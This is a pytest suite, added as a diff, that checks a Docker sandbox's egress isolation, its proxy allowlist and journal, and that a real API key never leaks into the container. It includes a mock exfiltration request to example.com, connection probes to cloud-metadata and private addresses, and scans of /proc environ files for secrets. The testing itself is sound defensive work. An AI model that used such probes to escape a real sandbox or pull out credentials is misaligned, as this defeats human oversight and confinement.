@@ -1,0 +1,196 @@
+"""Security of a cell's sandbox, for real: Docker, the mitmproxy proxy container, a host upstream.
+
+From inside the sandbox every direct connection fails (while the proxy, the positive control, is
+reachable); the proxy refuses hosts that are not allowlisted and journals the refusal; the real
+API key reaches the upstream but never the sandbox (environment, files, /proc).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import threading
+import time
+import uuid
+
+import pytest
+import uvicorn
+from fastapi import FastAPI, Request
+
+from proxy.journal import read_journal, write_slot
+from sandboxes.docker_sandbox import PROXY_HOST, REGULAR_PORT, DockerSandbox, ProxySpec, SandboxSpec
+from tests.docker_fixtures import base_image, client, proxy_image, run_id, _prune_at_end  # noqa: F401
+
+pytestmark = pytest.mark.docker
+
+KEY_ENV = "CARC_TEST_REAL_KEY"
+REAL_KEY = f"sk-real-{uuid.uuid4().hex}"
+
+
+def bridge_gateway(client) -> str:
+    return client.networks.get("bridge").attrs["IPAM"]["Config"][0]["Gateway"]
+
+
+@pytest.fixture(scope="module")
+def upstream(client):
+    """A scripted model endpoint on the host's docker0 address; it reports whether it saw the key."""
+    app = FastAPI()
+    seen: list[dict] = []
+
+    @app.post("/v1/chat/completions")
+    async def chat(request: Request):
+        body = await request.json()
+        auth = request.headers.get("authorization", "")
+        seen.append({"auth_is_real": auth == f"Bearer {REAL_KEY}", "model": body.get("model")})
+        return {"id": "chatcmpl-1", "object": "chat.completion", "model": body.get("model"),
+                "choices": [{"index": 0, "finish_reason": "stop",
+                             "message": {"role": "assistant", "content": '{"action": "demo"}'}}],
+                "usage": {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18},
+                "saw_real_key": auth == f"Bearer {REAL_KEY}"}
+
+    host = bridge_gateway(client)
+    with socket.socket() as probe:
+        probe.bind((host, 0))
+        port = probe.getsockname()[1]
+    server = uvicorn.Server(uvicorn.Config(app, host=host, port=port, log_level="warning"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    while not server.started:
+        time.sleep(0.05)
+    yield {"host": host, "port": port, "seen": seen}
+    server.should_exit = True
+    thread.join(5)
+
+
+@pytest.fixture(scope="module")
+def cell(base_image, proxy_image, client, run_id, upstream, tmp_path_factory):
+    os.environ[KEY_ENV] = REAL_KEY
+    journal = tmp_path_factory.mktemp("journal")
+    spec = SandboxSpec(base_image, run_id, "cell-security", proxy=ProxySpec(
+        proxy_image, journal, f"http://host.docker.internal:{upstream['port']}/v1",
+        key_env=KEY_ENV))
+    box = DockerSandbox(spec, client).start()
+    write_slot(journal / "slot.json", 4, "before")
+    yield box, journal
+    box.teardown()
+    os.environ.pop(KEY_ENV, None)
+
+
+PROBE = r"""
+import json, socket, sys, concurrent.futures as cf
+targets = json.loads(sys.argv[1])
+def attempt(target):
+    host, port = target
+    try:
+        socket.create_connection((host, port), timeout=3).close()
+        return [host, port, "connected"]
+    except OSError as exc:
+        return [host, port, f"{type(exc).__name__}: {exc}"]
+with cf.ThreadPoolExecutor(len(targets)) as pool:
+    print(json.dumps(list(pool.map(attempt, targets))))
+"""
+
+
+def test_direct_connections_from_the_sandbox_all_fail_but_the_proxy_answers(cell, client, upstream):
+    box, _ = cell
+    box.network.reload()
+    subnet = box.network.attrs["IPAM"]["Config"][0]["Subnet"]
+    internal_first = subnet.split("/")[0].rsplit(".", 1)[0] + ".1"
+    egress_gateway = client.networks.get("carc-egress").attrs["IPAM"]["Config"][0]["Gateway"]
+    destinations = [
+        ["1.1.1.1", 443], ["8.8.8.8", 53], ["93.184.216.34", 80],          # public
+        ["10.0.0.1", 80], ["192.168.0.1", 80], ["172.16.0.1", 22],          # private ranges
+        [upstream["host"], upstream["port"]],                               # the model host itself
+        [egress_gateway, upstream["port"]], [internal_first, 22],           # host gateways
+        ["169.254.169.254", 80],                                            # cloud metadata
+        ["registry-1.docker.io", 443], ["ghcr.io", 443], ["pypi.org", 443],
+        ["registry.npmjs.org", 443],                                        # registries by name
+    ]
+    result = box.exec(["python3", "-c", PROBE, json.dumps(destinations + [[PROXY_HOST, REGULAR_PORT]])],
+                      timeout=60)
+    outcomes = json.loads(result.stdout)
+    control = outcomes.pop()
+    assert control[2] == "connected", f"the positive control (the proxy) must answer: {control}"
+    connected = [o for o in outcomes if o[2] == "connected"]
+    print(f"\ndirect connections: {len(outcomes)} tried, {len(outcomes) - len(connected)} refused")
+    for host, port, outcome in outcomes:
+        print(f"  {host}:{port} -> {outcome}")
+    assert len(outcomes) >= 10 and connected == []
+
+
+def _through_proxy(box, url: str, method: str = "GET") -> str:
+    code = (
+        "import sys, urllib.request\n"
+        f"req = urllib.request.Request({url!r}, method={method!r})\n"
+        "try:\n"
+        "    print(urllib.request.urlopen(req, timeout=20).status)\n"
+        "except urllib.error.HTTPError as e:\n"
+        "    print(e.code, e.read().decode()[:200])\n"
+        "except Exception as e:\n"
+        "    print(type(e).__name__, e)\n")
+    return box.exec(["python3", "-c", code], timeout=60).text()
+
+
+def test_non_allowlisted_host_through_the_proxy_gets_403_and_a_journal_line(cell):
+    box, journal = cell
+    assert _through_proxy(box, "http://example.com/exfiltrate?x=1").startswith("403")
+    assert "403" in _through_proxy(box, "https://pypi.org/simple/")  # CONNECT refused
+    refused = [e for e in read_journal(journal / "journal.jsonl") if e.refused]
+    hosts = {e.host for e in refused}
+    assert {"example.com", "pypi.org"} <= hosts
+    assert all(e.status == 403 and e.cell == "cell-security" for e in refused)
+
+
+def test_model_call_through_the_reverse_proxy_reaches_upstream_with_the_real_key(cell, upstream):
+    box, journal = cell
+    code = (
+        "import json, os, urllib.request\n"
+        "body = json.dumps({'model': 'm1', 'messages': [{'role': 'user', 'content': 'hi'}]}).encode()\n"
+        "req = urllib.request.Request('http://proxy:8081/v1/chat/completions', data=body, headers={\n"
+        "    'content-type': 'application/json',\n"
+        "    'authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']})\n"
+        "print(urllib.request.urlopen(req, timeout=20).read().decode())\n")
+    answer = json.loads(box.exec(["python3", "-c", code], timeout=60).stdout)
+    assert answer["saw_real_key"] is True
+    assert upstream["seen"][-1] == {"auth_is_real": True, "model": "m1"}
+    entry = [e for e in read_journal(journal / "journal.jsonl") if e.api == "openai-chat"][-1]
+    assert (entry.slot, entry.phase, entry.status) == (4, "before", 200)
+    assert (entry.prompt_tokens, entry.completion_tokens) == (11, 7)
+    assert REAL_KEY not in (journal / "journal.jsonl").read_text()
+
+
+def test_the_real_key_is_absent_from_the_sandbox_environment_files_and_proc(cell):
+    box, _ = cell
+    box.container.reload()
+    assert not any(REAL_KEY in v for v in box.container.attrs["Config"]["Env"])
+    assert box.exec(["sh", "-c", "echo $OPENAI_API_KEY"]).text().strip() == "carc-placeholder-key"
+    box.exec(["sh", "-c", "nohup sleep 120 >/dev/null 2>&1 &"])
+    box.write_file("/state/control-marker", "carc-control-marker-7f3a")
+
+    def files_holding(text: str) -> list[str]:
+        found = box.exec(["grep", "-rlsF", text, "/", "--exclude-dir=proc", "--exclude-dir=sys"],
+                         timeout=120)
+        return found.text().split()
+
+    assert files_holding("carc-control-marker-7f3a") == ["/state/control-marker"]  # the search works
+    assert files_holding(REAL_KEY) == []
+    # The key goes in on stdin, so the scanning process's own command line does not hold it.
+    scan = ("import glob, sys\nkey = sys.stdin.read().encode()\nhits = []\n"
+            "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
+            "    try:\n        data = open(path, 'rb').read()\n    except OSError:\n        continue\n"
+            "    hits += [path] if key in data else []\n"
+            "print(len(glob.glob('/proc/[0-9]*/environ')), hits)")
+    processes, hits = box.exec(["python3", "-c", scan], input=REAL_KEY).text().split(" ", 1)
+    assert int(processes) >= 3 and hits.strip() == "[]"
+
+
+def test_the_sandbox_trusts_the_proxy_ca_through_every_ca_variable(cell):
+    box, _ = cell
+    env = box.exec(["env"]).text()
+    for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "CURL_CA_BUNDLE", "PIP_CERT"):
+        assert f"{name}=/tmp/carc/ca.pem" in env
+    assert box.read_file("/tmp/carc/ca.pem") == box.proxy_ca()
+    check = box.exec(["python3", "-c", "import ssl; c = ssl.create_default_context(); "
+                      "print(len(c.get_ca_certs()))"]).text().strip()
+    assert check == "1"
